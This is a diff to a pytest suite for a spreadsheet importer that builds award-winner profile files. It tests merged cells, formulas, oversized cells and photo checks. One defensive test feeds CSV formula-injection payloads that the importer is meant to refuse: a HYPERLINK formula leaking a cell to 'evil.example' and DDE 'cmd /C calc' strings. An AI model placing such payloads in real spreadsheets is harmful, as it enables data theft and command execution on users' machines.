@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import datetime
 import io
 import os
@@ -13,6 +14,7 @@ from typing import Any
 import openpyxl
 import pytest
 import yaml
+from PIL import Image
 
 from generator import check
 from generator.cli import run
@@ -223,13 +225,14 @@ def test_invalid_rows_are_reported_by_row_and_nothing_is_written(
     assert (report.created, report.updated, report.skipped_rows) == ((), (), ())
     assert not (content / "pillars").exists()
     by_row = {(p.line, p.field): p.message for p in _errors(report)}
+    # The same checks as a profile file, told by row and by the column as headed in the sheet.
     assert by_row[(3, "province")] == (
-        "province 'Jawa Barta' is not a province; did you mean 'jawa-barat'?"
+        "column 'Provinsi': province 'Jawa Barta' is not a province; did you mean 'jawa-barat'?"
     )
-    assert by_row[(4, "category")].startswith("category 'Pilar' is not a category")
-    assert by_row[(4, "rank")] == "rank 'Juara 4' is not a rank"
+    assert by_row[(4, "category")].startswith("column 'Kategori': category 'Pilar' is not a")
+    assert by_row[(4, "rank")] == "column 'Juara': rank 'Juara 4' is not a rank"
     assert by_row[(5, "name")] == "'Nama' is empty"
-    assert by_row[(6, "year")] == "year '1980' is not a selection year"
+    assert by_row[(6, "year")] == "column 'Tahun': '1980' is out of range (1990–2027)"
     assert {p.path for p in report.problems} == {str(source)}
     assert not report.ok
 
@@ -410,18 +413,38 @@ def test_rank_spellings(tmp_path: Path, content: Path, cell: object, expected: o
     assert _fields(content, "pillars/2019/siti-contoh.md").get("rank") == expected
 
 
+def _jpeg(path: Path) -> None:
+    path.parent.mkdir(parents=True, exist_ok=True)
+    Image.new("RGB", (8, 8), "white").save(path, "JPEG")
+
+
 def test_since_and_photo_rules(tmp_path: Path, content: Path) -> None:
+    _jpeg(content / "pillars/2019/ani.jpg")
+    _jpeg(content / "pillars/2019/foto/wati.jpg")  # a photo in a subfolder, as a profile may
     rows = [
         ["nama", "kategori", "provinsi", "tahun", "sejak", "foto", "keterangan foto"],
         ["Siti Contoh", "psm", "Bali", "2019", "2020", "", ""],
-        ["Budi Contoh", "psm", "Bali", "2019", "", "budi.jpg", ""],
+        ["Budi Contoh", "psm", "Bali", "2019", "", "ani.jpg", ""],
         ["Ani Contoh", "psm", "Bali", "2019", "2010", "ani.jpg", "Ani di posyandu"],
+        ["Wati Contoh", "psm", "Bali", "2019", "", "foto/wati.jpg", "Wati di dapur umum"],
+        ["Dewi Contoh", "psm", "Bali", "2019", "", "dewi.jpg", "Dewi di posko"],
     ]
     report = _run(_csv(tmp_path / "w.csv", rows), content, skip_invalid=True)
-    assert {(p.line, p.field) for p in _errors(report)} == {(2, "since"), (3, "photo_alt")}
-    [photo_warning] = [p for p in report.problems if not p.is_error]
-    assert (photo_warning.line, photo_warning.field) == (4, "photo")
+    assert {(p.line, p.field) for p in _errors(report)} == {
+        (2, "since"),
+        (3, "photo_alt"),
+        (6, "photo"),
+    }
+    # A photo that is not there stops the build, so it stops the import too: one rule, one word.
+    [missing] = [p for p in _errors(report) if p.line == 6]
+    assert missing.message.startswith(
+        "column 'foto': photo file 'dewi.jpg' is not in pillars/2019/"
+    )
+    assert not [p for p in report.problems if not p.is_error]
+    assert report.created == ("pillars/2019/ani-contoh.md", "pillars/2019/wati-contoh.md")
     assert _fields(content, "pillars/2019/ani-contoh.md")["photo_alt"] == "Ani di posyandu"
+    assert _fields(content, "pillars/2019/wati-contoh.md")["photo"] == "foto/wati.jpg"
+    _assert_site_valid(content)
 
 
 def test_unknown_columns_give_one_warning_with_a_suggestion(tmp_path: Path, content: Path) -> None:
@@ -548,6 +571,128 @@ def test_the_command_names_the_spreadsheet_row_once(content: Path, tmp_path: Pat
     out, err = io.StringIO(), io.StringIO()
     code = run(["import", str(source), "--content", str(content)], out, err)
     assert code == 1
-    assert f"{source}, row 2: rank 'Juara 9' is not a rank" in err.getvalue()
+    assert f"{source}, row 2: column 'peringkat': rank 'Juara 9' is not a rank" in err.getvalue()
     assert "row 2: row 2" not in err.getvalue() and ":2:" not in err.getvalue()
     assert "fix the 1 problem above" in err.getvalue()
+
+
+def test_merged_cells_give_their_value_to_every_row_they_span(
+    tmp_path: Path, content: Path
+) -> None:
+    # The committee merges the category (and the year) of a group of winners into one cell.
+    workbook = openpyxl.Workbook()
+    sheet = workbook.active
+    assert sheet is not None
+    for row in [
+        HEADINGS,
+        ["Siti Contoh", "TKSK", "Bali", 2019],
+        ["Budi Contoh", None, "Aceh", None],
+        ["Ani Contoh", None, "Jabar", None],
+        ["Wati Contoh", "PSM", "Bali", 2020],
+    ]:
+        sheet.append(row)
+    sheet.merge_cells("B2:B4")
+    sheet.merge_cells("D2:D4")
+    workbook.save(tmp_path / "w.xlsx")
+    report = _run(tmp_path / "w.xlsx", content)
+    assert report.ok, report.problems
+    for slug in ("siti-contoh", "budi-contoh", "ani-contoh"):
+        fields = _fields(content, f"pillars/2019/{slug}.md")
+        assert (fields["category"], fields["year"]) == ("tksk", 2019)
+    assert _fields(content, "pillars/2020/wati-contoh.md")["category"] == "psm"
+
+
+def test_a_formula_never_calculated_is_named_as_such(tmp_path: Path, content: Path) -> None:
+    # openpyxl, like many scripts, saves formulas without their results.
+    sheet = _xlsx(
+        tmp_path / "w.xlsx",
+        [HEADINGS, ['=CONCAT("Siti ","Contoh")', "psm", "Bali", 2019], ["", "psm", "Bali", 2019]],
+    )
+    report = _run(sheet, content)
+    by_row = {p.line: p for p in _errors(report)}
+    assert by_row[2].message == (
+        "column 'Nama': the cell holds a formula whose result was never calculated "
+        '(=CONCAT("Siti ","Contoh"))'
+    )
+    assert "save it again" in by_row[2].hint
+    assert by_row[3].message == "'Nama' is empty"  # a cell that is really empty
+    assert not report.created
+
+
+def test_a_large_csv_cell_is_read_and_a_huge_one_named(tmp_path: Path, content: Path) -> None:
+    achievements = "; ".join(f"Penghargaan nomor {i}" for i in range(8000))  # ~200 KB
+    rows = [[*HEADINGS[:4], "Prestasi"], ["Siti Contoh", "psm", "Bali", "2019", achievements]]
+    report = _run(_csv(tmp_path / "w.csv", rows, ","), content)
+    assert report.created == ("pillars/2019/siti-contoh.md",), report.problems
+    assert len(_fields(content, "pillars/2019/siti-contoh.md")["achievements"]) == 8000
+    rows[1][4] = "x" * 2_100_000
+    report = _run(_csv(tmp_path / "w.csv", rows, ","), content)
+    [problem] = _errors(report)
+    assert (problem.line, problem.field) == (2, "achievements")
+    assert problem.message == (
+        "column 'Prestasi': the cell holds 2.1 MB of text; a whole profile file is at most 2 MB"
+    )
+    assert "field limit" not in problem.message
+
+
+def test_a_quote_never_closed_is_named_not_swallowing_rows(tmp_path: Path, content: Path) -> None:
+    source = tmp_path / "w.csv"
+    lines = ["Nama,Kategori,Provinsi,Tahun", 'Siti Contoh,psm,"Bali,2019']
+    lines += [f"Orang {i},psm,Bali,2019" for i in range(10_000)]  # over 128 KB in one cell
+    source.write_text("\n".join(lines) + "\n", encoding="utf-8")
+    report = _run(source, content)
+    [problem] = report.problems
+    assert problem.line == 2
+    assert problem.message.startswith('column C: a quote (") opened in this cell is never closed')
+    assert not (content / "pillars").exists()
+
+
+@pytest.mark.parametrize(
+    ("column", "cell"),
+    [
+        ("Nama", '=HYPERLINK("http://evil.example/?x="&A1,"klik")'),
+        ("Kabupaten/Kota", "@SUM(1+1)*cmd|' /C calc'!A0"),
+        ("Kabupaten/Kota", "+62 Kab. Garut"),
+        ("Kabupaten/Kota", "-2+3+cmd|' /C calc'!A0"),
+        ("Kabupaten/Kota", "\t=1+2"),
+        ("Prestasi", "Juara lomba; =cmd|' /C calc'!A0"),
+    ],
+)
+def test_a_cell_that_a_spreadsheet_would_run_is_refused(
+    tmp_path: Path, content: Path, column: str, cell: str
+) -> None:
+    row = {"Nama": "Siti Contoh", "Kabupaten/Kota": "Kab. Garut", "Prestasi": "Juara lomba"}
+    row[column] = cell
+    headings = [*HEADINGS[:4], "Kabupaten/Kota", "Prestasi"]
+    values = [row["Nama"], "psm", "Bali", "2019", row["Kabupaten/Kota"], row["Prestasi"]]
+    source = tmp_path / "w.csv"
+    with source.open("w", encoding="utf-8", newline="") as f:
+        csv.writer(f).writerows([headings, values])  # (an .xlsx would hold real formulas)
+    report = _run(source, content)
+    [problem] = _errors(report)
+    start = cell.strip()[0] if column != "Prestasi" else "="
+    assert problem.line == 2 and problem.message.startswith(f"column '{column}': '")
+    assert f"starts with '{start}', so a spreadsheet program would run it" in problem.message
+    assert f"without the leading '{start}'" in problem.hint
+    assert not (content / "pillars").exists()
+
+
+def test_list_bullets_and_dashes_are_not_formulas(tmp_path: Path, content: Path) -> None:
+    rows = [
+        [*HEADINGS, "Prestasi"],
+        ["Siti Contoh", "psm", "Bali", "2019", "-", "–", "- Juara lomba\n- Kader terbaik"],
+    ]
+    report = _run(_xlsx(tmp_path / "w.xlsx", rows), content)
+    assert report.ok, report.problems
+    fields = _fields(content, "pillars/2019/siti-contoh.md")
+    assert fields["achievements"] == ["Juara lomba", "Kader terbaik"]
+    assert "rank" not in fields and "regency" not in fields
+
+
+def test_a_photo_is_looked_for_once_the_year_is_right(tmp_path: Path, content: Path) -> None:
+    rows = [
+        ["nama", "kategori", "provinsi", "tahun", "foto", "keterangan foto"],
+        ["Siti Contoh", "psm", "Bali", "dua ribu", "siti.jpg", "Siti di posko"],
+    ]
+    report = _run(_csv(tmp_path / "w.csv", rows), content)
+    assert [p.field for p in report.problems] == ["year"]
